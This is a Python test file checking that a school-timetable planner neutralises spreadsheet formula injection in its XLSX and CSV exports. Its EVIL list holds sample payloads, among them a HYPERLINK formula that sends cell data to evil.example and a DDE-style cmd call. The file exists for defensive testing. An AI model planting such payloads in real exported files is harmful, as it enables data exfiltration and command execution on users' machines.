"""Issue 11 (5): no formula cell in any workbook or CSV file the planner writes from formula-like input, and no
visible artefact in the workbooks."""

from __future__ import annotations

import csv
import io
from datetime import date
from pathlib import Path

import pytest
from openpyxl import load_workbook

from planner.audit import audit_school
from planner.cells import FORMULA_START, csv_cell, csv_restore, has_formula
from planner.importers import load_school
from planner.importers.tabular import write_csv_folder, write_xlsx
from planner.norms import NormLibrary
from planner.publish.ejournal.epos import write_epos_workbook
from planner.rebuild import rebuild
from planner.scenario import scenario_from_toml
from planner.ui.audit_view import report_xlsx

ROOT = Path(__file__).resolve().parents[2]
SAMPLE = ROOT / "sample_data" / "school-17"
EVIL = ['=HYPERLINK("https://evil.example/?"&A1,"Нажмите")', "+1+2", "-3+cmd|' /C calc'!A0", "@SUM(1,1)"]


@pytest.fixture(scope="module")
def evil_school():
    school = load_school(SAMPLE).school
    teachers = [t.model_copy(update={"name": EVIL[i % 4]}) for i, t in enumerate(school.teachers)]
    subjects = [s.model_copy(update={"name": EVIL[(i + 1) % 4]}) for i, s in enumerate(school.subjects)]
    classes = [c.model_copy(update={"name": EVIL[(i + 2) % 4] + c.id}) for i, c in enumerate(school.classes)]
    return school.model_copy(update={"name": EVIL[0], "teachers": teachers, "subjects": subjects, "classes": classes})


def _texts(wb) -> set[str]:
    return {c.value for ws in wb.worksheets for row in ws.iter_rows() for c in row if isinstance(c.value, str)}


def test_convert_workbook_has_no_formula_and_no_visible_quote(tmp_path, evil_school):
    out = tmp_path / "school.xlsx"
    write_xlsx(evil_school, out)
    wb = load_workbook(out)
    assert not has_formula(wb)
    assert set(EVIL) <= _texts(wb)  # the text as it was, no leading quote
    assert load_school(out).school.teachers[0].name == EVIL[0]


def test_csv_folder_escapes_formula_text_and_reads_back_the_same(tmp_path, evil_school):
    write_csv_folder(evil_school, tmp_path / "csv")
    for f in (tmp_path / "csv").glob("*.csv"):
        for row in csv.reader(io.StringIO(f.read_text(encoding="utf-8"))):
            assert not any(cell[:1] in FORMULA_START for cell in row), (f.name, row)
    back = load_school(tmp_path / "csv").school
    assert [t.name for t in back.teachers] == [t.name for t in evil_school.teachers]
    assert back.name == evil_school.name


def test_sanpin_report_workbook_has_no_formula(evil_school):
    report = audit_school(evil_school, NormLibrary.load(), date(2026, 11, 30), date(2026, 12, 5))
    wb = load_workbook(io.BytesIO(report_xlsx(evil_school, report, "Регулярное расписание")))
    assert not has_formula(wb)
    assert EVIL[0] in _texts(wb)


def test_epos_workbook_has_no_formula_and_no_visible_quote(tmp_path, evil_school):
    plan = rebuild(evil_school, scenario_from_toml(SAMPLE / "scenarios" / "01-frost-whole-school.toml"),
                   NormLibrary.load())
    write_epos_workbook(evil_school, plan, tmp_path / "epos.xlsx")
    wb = load_workbook(tmp_path / "epos.xlsx")
    assert not has_formula(wb)
    texts = _texts(wb)
    assert any(t.startswith(("=", "+", "-", "@")) for t in texts)  # shown as it is ...
    assert not any(t.startswith("'") for t in texts)  # ... without a visible quote


@pytest.mark.parametrize("value", ["=1", "'=1", "''+x", "'plain", "plain", "-", "", "\tx"])
def test_csv_escape_round_trips(value):
    assert csv_restore(csv_cell(value)) == value
    assert csv_cell(value)[:1] not in FORMULA_START
